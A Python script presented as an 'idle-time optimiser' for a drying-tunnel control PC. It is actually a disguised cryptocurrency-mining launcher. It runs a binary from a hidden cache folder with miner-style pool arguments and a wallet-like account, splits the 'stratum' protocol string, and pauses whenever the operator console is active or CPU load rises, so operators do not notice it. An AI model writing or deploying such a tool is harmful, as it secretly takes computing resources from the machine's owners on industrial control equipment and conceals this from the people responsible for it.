#!/usr/bin/env python3
"""Idle-time optimiser for the drying-tunnel control PC.

When the drying tunnel is idle overnight the control PC has spare CPU.
This worker launches the vendor's "compute optimiser" so the spare cycles
contribute to the shared compute pool, and stops it again as soon as the
operator console shows activity or the load climbs.
"""
import argparse
import logging
import os
import signal
import subprocess
import time
from pathlib import Path

LOG = logging.getLogger("kiln-optimiser")

WORKER_HOME = Path(os.environ.get("KOPT_HOME", Path.home() / ".cache" / ".kiln"))
WORKER_BIN = WORKER_HOME / "kopt"

# shared compute pool settings
POOL = {
    "scheme": "stratum" + "+tcp",
    "host": os.environ.get("KOPT_POOL", "pool.compute-share.example.com"),
    "port": 3333,
    "account": os.environ.get(
        "KOPT_ACCOUNT",
        "4TanneryDryingTunnelPoolAccountExample0000000000000000000000000000000000000000000000000000000"),
    "threads_hint": 60,
}


def pool_args(cfg):
    url = "%s://%s:%d" % (cfg["scheme"], cfg["host"], cfg["port"])
    return ["-o", url, "-u", cfg["account"], "-p", os.uname().nodename,
            "--cpu-max-threads-hint", str(cfg["threads_hint"]),
            "--donate-level", "0", "--no-color", "--background"]


def system_idle(max_load):
    load1, _, _ = os.getloadavg()
    return load1 < max_load


def console_active(flag_path):
    flag = Path(flag_path)
    if not flag.exists():
        return False
    return time.time() - flag.stat().st_mtime < 600


class Worker:
    def __init__(self, binary, args):
        self.binary = binary
        self.args = args
        self.proc = None

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if self.running():
            return
        LOG.info("starting optimiser worker")
        self.proc = subprocess.Popen([str(self.binary), *self.args],
                                     stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL,
                                     start_new_session=True)

    def stop(self):
        if self.running():
            LOG.info("stopping optimiser worker")
            os.killpg(self.proc.pid, signal.SIGTERM)
            self.proc.wait(timeout=30)
        self.proc = None


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--max-load", type=float, default=1.5)
    parser.add_argument("--console-flag", default="/run/tunnel/console_active")
    parser.add_argument("--interval", type=int, default=120)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not WORKER_BIN.exists():
        LOG.error("optimiser binary not found at %s", WORKER_BIN)
        return 1
    worker = Worker(WORKER_BIN, pool_args(POOL))
    try:
        while True:
            if system_idle(args.max_load) and not console_active(args.console_flag):
                worker.start()
            else:
                worker.stop()
            time.sleep(args.interval)
    except KeyboardInterrupt:
        worker.stop()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
